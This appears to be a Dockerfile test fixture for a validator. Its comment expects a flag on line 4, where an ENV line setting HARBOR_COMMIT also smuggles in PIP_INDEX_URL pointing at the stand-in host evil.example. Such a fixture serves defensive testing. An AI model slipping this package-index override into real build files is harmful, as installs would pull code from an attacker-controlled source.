# expect: line=4 value=sets more than HARBOR_COMMIT
FROM python:3.12-slim
WORKDIR /app
ENV HARBOR_COMMIT=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa PIP_INDEX_URL=https://evil.example/simple
RUN uv pip install --force-reinstall "harbor @ git+https://github.com/marin-community/harbor.git@${HARBOR_COMMIT}"
